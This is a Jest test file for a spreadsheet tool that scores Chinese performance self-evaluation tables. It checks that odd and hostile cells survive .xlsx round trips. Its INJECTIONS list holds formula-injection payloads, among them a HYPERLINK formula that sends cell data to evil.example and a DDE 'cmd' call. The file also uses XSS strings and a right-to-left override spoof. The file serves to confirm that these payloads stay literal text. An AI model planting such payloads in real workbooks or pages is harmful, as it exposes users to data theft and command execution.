/**
 * Hardening: hostile or odd cells, through real .xlsx round trips
 * (exceljs builds → readWorkbook → analyzeWorkbook → applyPlan → writeWorkbook → read back).
 *
 * Each sheet holds one odd case; every case must end without a throw, with sensible findings, and the
 * written workbook must keep the user's cells (formulas, hidden state) and never turn text into a formula.
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import ExcelJS from "exceljs";
import { analyzeWorkbook, cellWrites, SUMMARY_SHEET } from "../../src/core/index";
import { LEDGER_SHEET } from "../../src/core/ledger";
import { readActual } from "../../src/core/read-actual";
import { parseTarget } from "../../src/core/parse-target";
import type { Analysis, IndicatorResult, Issue, Report, TableResult } from "../../src/core/types";
import { run } from "../../src/cli/run";
import { applyPlan, writeWorkbook } from "../../src/xlsx/apply-plan";
import { readWorkbook } from "../../src/xlsx/read-workbook";
import { SELF_EVAL_HEADER, sha256 } from "./fixtures";

jest.setTimeout(60_000);

// eslint-disable-next-line @typescript-eslint/no-require-imports
const JSZip = require("jszip");

type Cell = ExcelJS.CellValue;

/** Writes a small self-evaluation table at `top`: title, project, budget, header, rows. Returns the next free row. */
function table(
  ws: ExcelJS.Worksheet,
  top: number,
  project: string,
  rows: Cell[][],
  header = SELF_EVAL_HEADER
): number {
  let r = top;
  ws.getRow(r++).values = [`${project}绩效自评表`];
  ws.getRow(r++).values = ["项目名称", project];
  ws.getRow(r++).values = ["预算数", 100, "全年执行数", 95];
  ws.getRow(r++).values = header;
  for (const row of rows) ws.getRow(r++).values = row;
  return r + 2;
}

// Formula-like texts a finance officer (or an attacker) may type; all must stay literal text.
const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+1+1",
  "-1+2",
  "@SUM(A1:A3)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "=1+1",
];
const HTML = "<img src=x onerror=alert(1)>";
const SCRIPT = "<script>alert('x')</script>";
const RTL_PROJECT = "مشروع التحول الرقمي 🚀 פרויקט";
const RLO = "\u202Eexe.txt";

let dir: string;
let input: string;
let output: string;
let inputHash: string;
let first: Analysis;
let report: Report;
let back: ExcelJS.Workbook;

function tableOf(sheet: string): TableResult {
  const t = report.tables.find((x) => x.sheet === sheet);
  if (!t) throw new Error(`no table on ${sheet}: ${report.tables.map((x) => x.sheet).join(", ")}`);
  return t;
}
function ind(sheet: string, name: string): IndicatorResult {
  const i = tableOf(sheet).indicators.find((x) => x.name === name);
  if (!i) throw new Error(`no indicator ${name} on ${sheet}`);
  return i;
}
function issuesAt(sheet: string, cell: string): Issue[] {
  return report.issues.filter((i) => i.sheet === sheet && i.cell === cell);
}

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "hardening-cells-"));
  const wb = new ExcelJS.Workbook();

  // 1. Formulas and formula errors as actuals; a user formula where the engine wants to write.
  const f = wb.addWorksheet("公式");
  table(
    f,
    1,
    "公式项目",
    [
      ["产出指标", "数量指标", "除零", "≥6个", { formula: "1/0", result: { error: "#DIV/0!" } }],
      ["产出指标", "数量指标", "无值", "≥6个", { formula: "NA()", result: { error: "#N/A" } }],
      ["产出指标", "数量指标", "求和", "≥6个", { formula: "3+4", result: 7 }],
      ["效益指标", "社会效益指标", "未计算", "≥6个", { formula: "SUM(Z1:Z2)" } as Cell],
      ["满意度指标", "满意度", "满意度", "≥90%", { formula: "0.5+0.45", result: 0.95 }],
    ],
    ["一级指标", "二级指标", "三级指标", "指标值", "实际完成值", "偏差原因分析及改进措施", "得分"]
  );
  f.getCell("E9").numFmt = "0%";
  f.getCell("G7").value = { formula: "10*1", result: 10 }; // the user's own formula in the 得分 column

  // 2. Numbers stored as text.
  const t = wb.addWorksheet("文本数字");
  table(t, 1, "文本项目", [
    ["产出指标", "质量指标", "百分比文本", "≥90%", "95%"],
    ["产出指标", "数量指标", "千分位文本", "≥1000元", "1,200.00"],
    ["产出指标", "数量指标", "全角", "≥95%", "９５％"],
    ["效益指标", "社会效益指标", "带空格", "≥6个", "  7  "],
    ["满意度指标", "满意度", "科学计数", "≥1000", "1.2E+03"],
  ]);

  // 3. Hidden rows and columns.
  const h = wb.addWorksheet("隐藏");
  table(h, 1, "隐藏项目", [
    ["产出指标", "数量指标", "可见行", "≥6个", "7个"],
    ["产出指标", "数量指标", "隐藏行", "≥6个", "3个"],
    ["效益指标", "社会效益指标", "效益", "作用显著", "达成"],
    ["满意度指标", "满意度", "满意度", "≥95%", "97%"],
  ]);
  h.getRow(6).hidden = true;
  h.getColumn(2).hidden = true;

  // 4. A header over two merged rows.
  const m = wb.addWorksheet("合并表头");
  m.getRow(1).values = ["合并项目绩效自评表"];
  m.getRow(2).values = ["项目名称", "合并项目"];
  m.getRow(3).values = ["预算数", 100, "全年执行数", 95];
  m.getRow(4).values = ["绩效指标", null, null, "指标值", "实际完成值"];
  m.getRow(5).values = ["一级指标", "二级指标", "三级指标"];
  m.mergeCells("A4:C4");
  m.mergeCells("D4:D5");
  m.mergeCells("E4:E5");
  m.getRow(6).values = ["产出指标", "数量指标", "合并行一", "≥6个", "7个"];
  m.getRow(7).values = [null, null, "合并行二", "≥6个", "6个"];
  m.mergeCells("A6:A7");
  m.mergeCells("B6:B7");
  m.getRow(8).values = ["效益指标", "社会效益指标", "效益", "作用显著", "达成"];
  m.getRow(9).values = ["满意度指标", "满意度", "满意度", "≥95%", "97%"];

  // 5. Two header rows in a row (a header pasted twice).
  const d = wb.addWorksheet("双表头");
  const hdr = ["一级指标", "二级指标", "三级指标", "指标值", "实际完成值"];
  d.getRow(1).values = ["项目名称", "双表头项目"];
  d.getRow(2).values = ["预算数", 100, "全年执行数", 95];
  d.getRow(3).values = hdr;
  d.getRow(4).values = hdr;
  d.getRow(5).values = ["产出指标", "数量指标", "双表头指标", "≥6个", "7个"];
  d.getRow(6).values = ["效益指标", "社会效益指标", "效益", "作用显著", "达成"];

  // 6. Right-to-left and emoji text.
  const e = wb.addWorksheet("RTL😀");
  table(e, 1, RTL_PROJECT, [
    ["产出指标", "数量指标", "مؤشر الجودة 🎯", "≥6个", "7个"],
    ["产出指标", "质量指标", "מדד איכות", "≥6个 👍", "7个😀"],
    ["效益指标", "社会效益指标", RLO, "作用显著✨", "达成✅"],
    ["满意度指标", "满意度", "👨‍👩‍👧 满意度", "≥95%", "97%"],
  ]);

  // 7. Formula-like text everywhere: project, title, names, targets, actuals, reasons, and the sheet name.
  const x = wb.addWorksheet("=SUM(1,2)");
  x.getRow(1).values = ["+2025年绩效自评表"];
  x.getRow(2).values = ["项目名称", INJECTIONS[0]];
  x.getRow(3).values = ["预算数", 100, "全年执行数", 95];
  x.getRow(4).values = SELF_EVAL_HEADER;
  x.getRow(5).values = ["产出指标", "=数量指标", INJECTIONS[1], "=100%", "100%"];
  x.getRow(6).values = ["产出指标", "@质量", INJECTIONS[2], "≥6个", INJECTIONS[4]];
  x.getRow(7).values = ["效益指标", "-效益", INJECTIONS[3], "=1+1", "=1+1", INJECTIONS[5]];
  x.getRow(8).values = ["满意度指标", "+满意度", INJECTIONS[6], "≥95%", "+97%", "=A1"];

  // 8. HTML in cells.
  const w = wb.addWorksheet("<i>HTML");
  table(w, 1, HTML, [
    ["产出指标", "数量指标", SCRIPT, "≥6个", "<b>7</b>"],
    ["产出指标", "质量指标", HTML, `<i>≥6个</i>`, "7个"],
    ["效益指标", "社会效益指标", "效益", "作用显著", HTML, SCRIPT],
    ["满意度指标", "满意度", "满意度", "≥95%", "97%"],
  ]);

  input = path.join(dir, "odd.xlsx");
  await wb.xlsx.writeFile(input);
  inputHash = sha256(input);

  const read = await readWorkbook(input);
  first = analyzeWorkbook(read.sheets, {
    ledger: read.ledger,
    currentYear: 2025,
    source: "odd.xlsx",
  });
  report = first.report;
  applyPlan(read.workbook, first.plan);
  output = path.join(dir, "odd.scored.xlsx");
  await writeWorkbook(read.workbook, output);
  back = new ExcelJS.Workbook();
  await back.xlsx.readFile(output);
});

afterAll(() => {
  expect(sha256(input)).toBe(inputHash);
  fs.rmSync(dir, { recursive: true, force: true });
});

test("every sheet's table is found and scored without a throw", () => {
  expect(report.tables.map((t) => t.sheet).sort()).toEqual(
    ["公式", "文本数字", "隐藏", "合并表头", "双表头", "RTL😀", "=SUM(1,2)", "<i>HTML"].sort()
  );
});

describe("formulas and formula errors as actuals", () => {
  test("#DIV/0! and #N/A are ACTUAL_INVALID; a formula's cached number is scored", () => {
    expect(ind("公式", "除零")).toMatchObject({
      status: "invalid",
      score: null,
      actual: "#DIV/0!",
    });
    expect(ind("公式", "无值")).toMatchObject({ status: "invalid", score: null, actual: "#N/A" });
    expect(issuesAt("公式", "E5").map((i) => [i.code, i.severity])).toEqual([
      ["ACTUAL_INVALID", "error"],
    ]);
    expect(issuesAt("公式", "E6").map((i) => [i.code, i.severity])).toEqual([
      ["ACTUAL_INVALID", "error"],
    ]);
    expect(ind("公式", "求和")).toMatchObject({ status: "met", completion: 1.1667 });
    expect(ind("公式", "满意度")).toMatchObject({ status: "met" });
  });

  test("a formula with no cached result reads as missing", () => {
    expect(ind("公式", "未计算")).toMatchObject({ status: "missing", score: null });
    expect(issuesAt("公式", "E8").map((i) => i.code)).toEqual(["ACTUAL_MISSING"]);
  });

  test("the user's formulas are kept in the output, and a formula where a score goes is OUTPUT_OCCUPIED", () => {
    const ws = back.getWorksheet("公式")!;
    expect(ws.getCell("E5").formula).toBe("1/0");
    expect(ws.getCell("E6").formula).toBe("NA()");
    expect(ws.getCell("E7").formula).toBe("3+4");
    expect(ws.getCell("E8").formula).toBe("SUM(Z1:Z2)");
    expect(ws.getCell("G7").formula).toBe("10*1");
    expect(issuesAt("公式", "G7").map((i) => i.code)).toEqual(["OUTPUT_OCCUPIED"]);
    // the other rows' scores were written into the user's 得分 column
    expect(ws.getCell("G9").value).toEqual(expect.any(Number));
  });
});

describe("numbers stored as text", () => {
  test.each([
    ["百分比文本", 95 / 90],
    ["千分位文本", 1.2],
    ["全角", 1],
    ["带空格", 7 / 6],
    ["科学计数", 1.2],
  ])("%s is read as a number", (name, completion) => {
    const i = ind("文本数字", name);
    expect(i.status).toBe("met");
    expect(i.completion).toBeCloseTo(completion, 3); // completion is reported to 4 decimals
  });

  test("the text cells stay text in the output", () => {
    const ws = back.getWorksheet("文本数字")!;
    expect(ws.getCell("E5").value).toBe("95%");
    expect(ws.getCell("E6").value).toBe("1,200.00");
    expect(ws.getCell("E7").value).toBe("９５％");
  });
});

describe("hidden rows and columns", () => {
  test("hidden cells are still read and scored", () => {
    expect(ind("隐藏", "隐藏行")).toMatchObject({ status: "unmet", level2: "数量指标" });
    expect(tableOf("隐藏").complete).toBe(true);
  });

  test("the hidden state is kept in the output", () => {
    const ws = back.getWorksheet("隐藏")!;
    expect(ws.getRow(6).hidden).toBe(true);
    expect(ws.getColumn(2).hidden).toBe(true);
    expect(ws.getRow(5).hidden).toBe(false);
  });
});

describe("header layouts", () => {
  test("a header over two merged rows: one table, merged level cells inherited", () => {
    const t = tableOf("合并表头");
    expect(t.indicators.map((i) => [i.level1, i.level2, i.name, i.status])).toEqual([
      ["产出指标", "数量指标", "合并行一", "met"],
      ["产出指标", "数量指标", "合并行二", "met"],
      ["效益指标", "社会效益指标", "效益", "met"],
      ["满意度指标", "满意度", "满意度", "met"],
    ]);
    expect(t.complete).toBe(true);
    const ws = back.getWorksheet("合并表头")!;
    expect(ws.getCell("B7").isMerged).toBe(true);
  });

  test("two identical header rows in a row: the indicators are scored, the headers are not overwritten", () => {
    const withRows = report.tables.filter((t) => t.sheet === "双表头" && t.indicators.length > 0);
    expect(withRows).toHaveLength(1);
    expect(withRows[0].indicators.map((i) => [i.name, i.status])).toEqual([
      ["双表头指标", "met"],
      ["效益", "met"],
    ]);
    const ws = back.getWorksheet("双表头")!;
    expect([1, 2, 3, 4, 5].map((c) => ws.getCell(3, c).value)).toEqual([
      "一级指标",
      "二级指标",
      "三级指标",
      "指标值",
      "实际完成值",
    ]);
    expect([1, 2, 3, 4, 5].map((c) => ws.getCell(4, c).value)).toEqual([
      "一级指标",
      "二级指标",
      "三级指标",
      "指标值",
      "实际完成值",
    ]);
  });
});

describe("right-to-left and emoji text", () => {
  test("names, project and targets keep their characters; emoji around a figure do not break scoring", () => {
    const t = tableOf("RTL😀");
    expect(t.project).toBe(RTL_PROJECT);
    expect(ind("RTL😀", "مؤشر الجودة 🎯")).toMatchObject({ status: "met" });
    expect(ind("RTL😀", RLO)).toMatchObject({ target: "作用显著✨" });
    expect(ind("RTL😀", "👨‍👩‍👧 满意度")).toMatchObject({ status: "met" });
    // An emoji glued to a figure is not a unit: an honest finding, not a crash.
    const odd = ind("RTL😀", "מדד איכות");
    expect(["met", "invalid"]).toContain(odd.status);
  });
});

/** The summary sheet's rows, by project text. */
function summaryRows(): Map<string, ExcelJS.Row> {
  const ws = back.getWorksheet(SUMMARY_SHEET)!;
  const out = new Map<string, ExcelJS.Row>();
  ws.eachRow((row, n) => {
    if (n === 1) return;
    const v = row.getCell(2).value as ExcelJS.CellValue;
    const text =
      typeof v === "object" && v !== null && "text" in v
        ? String((v as { text: unknown }).text)
        : String(v);
    out.set(text, row);
  });
  return out;
}

describe("formula-like text never becomes a formula", () => {
  test("the engine reads them as text: =100% is an equal target, the rest are names and invalid actuals", () => {
    expect(tableOf("=SUM(1,2)").project).toBe(INJECTIONS[0]);
    expect(ind("=SUM(1,2)", "+1+1")).toMatchObject({
      kind: "equal",
      status: "met",
      level2: "=数量指标",
    });
    expect(ind("=SUM(1,2)", "-1+2")).toMatchObject({ status: "invalid", actual: INJECTIONS[4] });
    expect(ind("=SUM(1,2)", "@SUM(A1:A3)").status).not.toBe("met");
  });

  test("summary sheet: project and sheet-name cells hold the literal string, no formula", () => {
    const rows = summaryRows();
    const row = rows.get(INJECTIONS[0]);
    expect(row).toBeDefined();
    const sheetCell = row!.getCell(1);
    const projectCell = row!.getCell(2);
    expect(sheetCell.value).toBe("=SUM(1,2)");
    expect(sheetCell.formula).toBeUndefined();
    expect(sheetCell.type).not.toBe(ExcelJS.ValueType.Formula);
    expect(projectCell.type).not.toBe(ExcelJS.ValueType.Formula);
    expect(projectCell.formula).toBeUndefined();
    expect((projectCell.value as { text: string }).text).toBe(INJECTIONS[0]);
    expect((projectCell.value as { hyperlink: string }).hyperlink).toBe("#'=SUM(1,2)'!A1");
    // HTML and RTL projects: literal too
    expect(rows.get(HTML)).toBeDefined();
    expect(rows.get(RTL_PROJECT)).toBeDefined();
  });

  test("the table's own cells are untouched and still text", () => {
    const ws = back.getWorksheet("=SUM(1,2)")!;
    expect(ws.getCell("B2").value).toBe(INJECTIONS[0]);
    expect(ws.getCell("A1").value).toBe("+2025年绩效自评表");
    for (const addr of [
      "B5",
      "C5",
      "D5",
      "B6",
      "C6",
      "E6",
      "C7",
      "D7",
      "E7",
      "F7",
      "C8",
      "E8",
      "F8",
    ]) {
      expect([addr, ws.getCell(addr).type]).toEqual([addr, ExcelJS.ValueType.String]);
    }
  });

  test("the written file holds exactly the input's formulas (<f> elements), no more", async () => {
    const countF = async (file: string): Promise<Record<string, number>> => {
      const zip = await JSZip.loadAsync(fs.readFileSync(file));
      const counts: Record<string, number> = {};
      for (const name of Object.keys(zip.files).filter((n) =>
        /^xl\/worksheets\/sheet\d+\.xml$/.test(n)
      )) {
        const xml: string = await zip.file(name).async("string");
        counts[name] = (xml.match(/<f[\s>]/g) ?? []).length;
      }
      return counts;
    };
    const inF = await countF(input);
    const outF = await countF(output);
    const sum = (c: Record<string, number>) => Object.values(c).reduce((a, b) => a + b, 0);
    expect(sum(inF)).toBe(6); // E5:E9 and G7 of 公式
    expect(sum(outF)).toBe(sum(inF));
  });

  test("every written string cell in the output is a string cell (never a formula), across all sheets", () => {
    const written = new Set(cellWrites(first.plan).map((w) => `${w.sheet}!${w.row}:${w.col}`));
    for (const w of cellWrites(first.plan)) {
      if (typeof w.value !== "string") continue;
      const cell = back.getWorksheet(w.sheet)!.getCell(w.row + 1, w.col + 1);
      expect([w.sheet, w.value, cell.type]).toEqual([w.sheet, w.value, ExcelJS.ValueType.String]);
    }
    expect(written.size).toBeGreaterThan(0);
    back.getWorksheet(SUMMARY_SHEET)!.eachRow((row) =>
      row.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      })
    );
    const ledger = back.getWorksheet(LEDGER_SHEET)!;
    expect(ledger.state).toBe("veryHidden");
    ledger.eachRow((row) => row.eachCell((c) => expect(c.type).toBe(ExcelJS.ValueType.String)));
  });

  test("the JSON report (CLI --json -) carries the texts as plain JSON strings", async () => {
    let stdout = "";
    let stderr = "";
    const code = await run(["score", input, "--json", "-", "--lang", "en"], {
      stdout: (s) => (stdout += s),
      stderr: (s) => (stderr += s),
    });
    // Only the note on the formula saved without a result (the odd cell 公式!E8): the JSON is stdout's alone.
    expect(stderr).toBe(
      "note: 1 formula cell(s) hold no calculated result (e.g. 公式!E8) and read as blank; the file was probably made by a program and never calculated in Excel or WPS. Open and save it in Excel or WPS, then score again\n"
    );
    expect(code).toBe(1); // #DIV/0! and friends are errors
    const json = JSON.parse(stdout) as Report;
    expect(json.tables.find((t) => t.sheet === "=SUM(1,2)")!.project).toBe(INJECTIONS[0]);
    expect(json.tables.find((t) => t.sheet === "<i>HTML")!.project).toBe(HTML);
  });
});

describe("HTML in cells is kept literally", () => {
  test("report and output keep the markup as text", () => {
    expect(tableOf("<i>HTML").project).toBe(HTML);
    expect(ind("<i>HTML", SCRIPT)).toMatchObject({
      target: "≥6个",
      status: "invalid",
      actual: "<b>7</b>",
    });
    expect(ind("<i>HTML", HTML)).toMatchObject({ target: "<i>≥6个</i>" });
    expect(ind("<i>HTML", "效益")).toMatchObject({ status: "invalid", actual: HTML });
    const ws = back.getWorksheet("<i>HTML")!;
    expect(ws.getCell("B2").value).toBe(HTML);
    expect(ws.getCell("F7").value).toBe(SCRIPT);
    const msg = report.issues.find(
      (i) => i.sheet === "<i>HTML" && i.code === "ACTUAL_INVALID" && i.message.includes("<img")
    );
    expect(msg?.message).toContain(HTML);
  });
});

test("scoring the output again changes no cell and raises no new OUTPUT_OCCUPIED", async () => {
  const again = await readWorkbook(output);
  const second = analyzeWorkbook(again.sheets, { ledger: again.ledger, currentYear: 2025 });
  const occupied = (a: Analysis) => a.plan.skipped.map((i) => `${i.sheet}!${i.cell}`).sort();
  expect(occupied(second)).toEqual(occupied(first));
  // The same tables, with the same indicators and totals: the engine's own output (the result block beside a
  // two-row header) must not hide a table from the next run (locate-tables.ts headerOnlyUpTo).
  const shape = (r: Report) =>
    r.tables.map((t) => [t.sheet, t.headerRow, t.indicators.length, t.total]);
  expect(shape(second.report)).toEqual(shape(report));
  expect(second.plan.summary?.writes).toEqual(first.plan.summary?.writes);
  const grids = new Map(again.sheets.map((g) => [g.name, g]));
  for (const w of cellWrites(second.plan)) {
    const g = grids.get(w.sheet)!;
    const cur = g.values[w.row - g.originRow]?.[w.col - g.originCol] ?? null;
    if (typeof w.value === "number" && typeof cur === "number") expect(cur).toBeCloseTo(w.value, 9);
    else expect([w.sheet, w.row, w.col, cur]).toEqual([w.sheet, w.row, w.col, w.value]);
  }
});

describe("regressions found by these tests", () => {
  test("a long run of digits as an actual is read in linear time (read-actual PERCENT_IN_TEXT was quadratic)", () => {
    const target = parseTarget("≥6个", { defaultYear: 2025, cost: false });
    const digits = "9".repeat(200_000);
    const t0 = Date.now();
    const r = readActual(target, { value: digits, text: digits, isDate: false });
    expect(r.status).toBe("invalid");
    for (const t of ["作用显著", "2025年3月底前"])
      readActual(parseTarget(t, { defaultYear: 2025, cost: false }), {
        value: digits,
        text: `部分达成${digits}`,
        isDate: false,
      });
    expect(Date.now() - t0).toBeLessThan(2_000); // was ~65 s for 200,000 digits
  });

  test("部分达成（75%）still picks the point inside the band after the regex change", () => {
    const q = parseTarget("作用显著", { defaultYear: 2025, cost: false });
    expect(
      readActual(q, { value: "部分达成（75%）", text: "部分达成（75%）", isDate: false })
    ).toMatchObject({ band: "部分达成", bandFraction: 0.75 });
    expect(
      readActual(q, { value: "部分达成 62.5%", text: "部分达成 62.5%", isDate: false })
    ).toMatchObject({ band: "部分达成", bandFraction: 0.625 });
  });
});
